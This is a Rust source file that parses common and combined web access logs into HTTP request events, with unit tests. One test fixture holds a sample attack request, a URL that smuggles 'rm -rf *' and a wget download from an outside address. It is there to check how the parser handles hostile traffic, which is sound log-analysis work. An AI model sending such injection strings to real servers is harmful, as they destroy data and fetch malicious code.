//! Web access logs, common and combined, with or without a virtual host in front → HTTP requests.
//!
//! Deliberately absent: request bodies, which these logs do not have.

use std::borrow::Cow;
use std::net::IpAddr;

use ringleader_model::{Activity, Event, EventClass, Field, Malformed, Timestamp};

use super::{Format, Framing, Reader, Record, Sink, SourceContext};
use super::{text, wire};

/// How many lines of the head may be anything else before one must be of the format.
const LOOK_AT: usize = 4;

/// nginx, Apache httpd and what imitates them.
pub struct AccessLog;

impl Format for AccessLog {
    fn name(&self) -> &'static str {
        "access_log"
    }
    fn summary(&self) -> &'static str {
        "Web access log, common or combined, with or without a virtual host in front"
    }
    fn framing(&self) -> Framing {
        Framing::Lines { stateless: true }
    }
    fn recognizes(&self, head: &[u8]) -> bool {
        let lines = head.split(|it| *it == b'\n').map(<[u8]>::trim_ascii).filter(|it| !it.is_empty());
        lines.take(LOOK_AT).any(|line| Line::parse(&text::decode(line)).is_some())
    }
    fn reader(&self, _context: &SourceContext, _head: &[u8]) -> Box<dyn Reader> {
        Box::new(Lines)
    }
}

struct Lines;

impl Reader for Lines {
    fn read(&mut self, record: &Record<'_>, sink: &mut dyn Sink) -> Result<(), Malformed> {
        let line = text::decode(record.bytes);
        let it = Line::parse(&line).ok_or(Malformed::new("not a line of an access log"))?;
        let (time, offset) =
            Timestamp::parse_clf(it.time).ok_or(Malformed::new("a date or time that does not exist"))?;
        let mut event = Event::new(EventClass::Http, Activity::Request);
        (event.time, event.utc_offset_minutes) = (Some(time), offset);
        // With name look-ups on, a name stands there.
        let address = it.client.parse::<IpAddr>().is_ok();
        event.set(if address { Field::SrcIp } else { Field::Workstation }, it.client);
        event.set(Field::HttpHost, it.vhost);
        event.set(Field::DstPort, it.vhost_port);
        event.set(Field::User, it.user);
        request(&mut event, it.request);
        event.set(Field::Status, it.status);
        event.set(Field::BytesOut, it.bytes);
        event.set(Field::Referrer, it.referrer.map(|it| wire::cap(it.into_owned())));
        event.set(Field::UserAgent, it.user_agent.map(|it| wire::cap(it.into_owned())));
        event.set(Field::Detail, wire::cap(it.rest));
        sink.emit(&event);
        Ok(())
    }
}

/// Sets method and address of a request line; what is none (TLS bytes, a shell line) stays whole, as the body.
pub(crate) fn request<'a>(event: &mut Event<'a>, request: Cow<'a, str>) {
    let parsed = wire::request_line(request.as_bytes()).and_then(|(method, target)| {
        Some((std::str::from_utf8(method).ok()?.to_owned(), std::str::from_utf8(target).ok()?.to_owned()))
    });
    // HTTP/0.9 has no version: `GET /path`.
    let short = || {
        let (method, target) = request.split_once(' ')?;
        let named = (2..=10).contains(&method.len()) && method.bytes().all(|it| it.is_ascii_uppercase());
        (named && target.starts_with('/')).then(|| (method.to_owned(), target.trim().to_owned()))
    };
    match parsed.or_else(short) {
        Some((method, target)) => {
            event.set(Field::Method, method);
            event.set(Field::Url, wire::cap(target));
        }
        None => event.set(Field::Body, wire::cap(request)),
    }
}

struct Line<'a> {
    vhost: Option<&'a str>,
    vhost_port: Option<&'a str>,
    client: &'a str,
    user: &'a str,
    time: &'a str,
    request: Cow<'a, str>,
    status: &'a str,
    bytes: &'a str,
    referrer: Option<Cow<'a, str>>,
    user_agent: Option<Cow<'a, str>>,
    rest: &'a str,
}

impl<'a> Line<'a> {
    fn parse(line: &'a str) -> Option<Self> {
        // A user's name may hold anything, brackets too: the time is the bracket with `day/` behind it.
        let (at, _) = line.match_indices(" [").take(8).find(|(at, _)| line.as_bytes().get(at + 4) == Some(&b'/'))?;
        let (before, time) = (&line[..at], &line[at + 2..]);
        let (time, after) = time.split_once("] ")?;
        let mut words = before.split(' ').filter(|it| !it.is_empty());
        let (first, second) = (words.next()?, words.next()?);
        let is_client = |it: &str| it.parse::<IpAddr>().is_ok();
        // `vhost client ident user`, or `client ident user`.
        let with_vhost = !is_client(first) && is_client(second);
        let (vhost, client) = if with_vhost { (Some(first), second) } else { (None, first) };
        let user = before.rsplit(' ').next()?;
        let (vhost, vhost_port) = match vhost.and_then(|it| it.rsplit_once(':')) {
            Some((name, port)) if port.bytes().all(|it| it.is_ascii_digit()) => (Some(name), Some(port)),
            _ => (vhost, None),
        };
        let (request, after) = quoted(after)?;
        let after = after.trim_start();
        let (status, after) = after.split_once(' ').unwrap_or((after, ""));
        if status.len() != 3 || !status.bytes().all(|it| it.is_ascii_digit()) {
            return None;
        }
        let after = after.trim_start();
        let (bytes, after) = after.split_once(' ').unwrap_or((after, ""));
        if bytes != "-" && !bytes.bytes().all(|it| it.is_ascii_digit()) {
            return None;
        }
        let (referrer, after) = quoted(after.trim_start()).map_or((None, after), |(it, after)| (Some(it), after));
        let (user_agent, after) = quoted(after.trim_start()).map_or((None, after), |(it, after)| (Some(it), after));
        Some(Self {
            vhost,
            vhost_port,
            client,
            user,
            time,
            request,
            status,
            bytes,
            referrer,
            user_agent,
            rest: after.trim(),
        })
    }
}

/// A quoted text and what follows it. `\"` and `\\` are undone; `\xNN` stays as the server wrote it.
pub(crate) fn quoted(text: &str) -> Option<(Cow<'_, str>, &str)> {
    let inner = text.strip_prefix('"')?;
    let bytes = inner.as_bytes();
    let mut at = 0;
    loop {
        at += memchr::memchr2(b'"', b'\\', &bytes[at..])?;
        if bytes[at] == b'"' {
            break;
        }
        at = (at + 2).min(bytes.len());
    }
    let value = &inner[..at];
    let value = match value.contains('\\') {
        true => Cow::Owned(value.replace("\\\"", "\"").replace("\\\\", "\\")),
        false => Cow::Borrowed(value),
    };
    Some((value, &inner[at + 1..]))
}

#[cfg(test)]
mod tests {
    use super::super::testing::read_all;
    use super::*;

    fn check(line: &str, expect: &[&str]) {
        assert!(AccessLog.recognizes(line.as_bytes()), "{line}");
        let got = read_all(&AccessLog, line.as_bytes()).join("\n");
        for part in expect {
            assert!(got.contains(part), "{part} in {got}");
        }
    }

    #[test]
    fn lines_of_four_kinds() {
        check(
            r#"192.0.2.7 - frank [10/Oct/2000:13:55:36 -0700] "GET /a.gif?x=1 HTTP/1.0" 200 2326"#,
            &[
                r#"2000-10-10T20:55:36.000000Z"#,
                r#"user_name="frank" http_method="GET" url="/a.gif?x=1" http_status="200" traffic_bytes_out="2326""#,
            ],
        );
        check(
            r#"www.example.test:443 192.0.2.7 - - [10/Oct/2000:13:55:36 +0000] "POST /x HTTP/1.1" 404 - "-" "curl/8 \"x\"" "203.0.113.9""#,
            &[
                r#"src_ip="192.0.2.7" http_host="www.example.test" dst_port="443""#,
                r#"http_user_agent="curl/8 \"x\"""#,
                r#"detail="\"203.0.113.9\"""#,
            ],
        );
        check(
            r#"2001:db8::1 - - [10/Oct/2000:13:55:36 +0000] "\x16\x03\x01\x02" 400 166 "-" "-""#,
            &[r#"src_ip="2001:db8::1" http_body="#],
        );
        check(
            r#"192.0.2.7 - - [10/Oct/2000:13:55:36 +0000] "GET /shell?cd /tmp; rm -rf *;wget http://192.0.2.1/x HTTP/1.1" 404 0 "-" "-""#,
            &[r#"url="/shell?cd /tmp; rm -rf *;wget http://192.0.2.1/x""#],
        );
    }

    #[test]
    fn what_is_no_access_log() {
        for line in
            ["", "\"", "a b c [10/", "x [10/Oct/2000:13:55:36 +0000] \"GET", "Mar  2 10:11:12 h sshd[1]: \"x\" 200 1"]
        {
            assert!(!AccessLog.recognizes(line.as_bytes()), "{line}");
        }
        let log = "192.0.2.7 - - [31/Sep/2018:13:55:36 +0000] \"GET / HTTP/1.0\" 200 1";
        assert!(read_all(&AccessLog, log.as_bytes())[0].contains("does not exist"));
    }
}
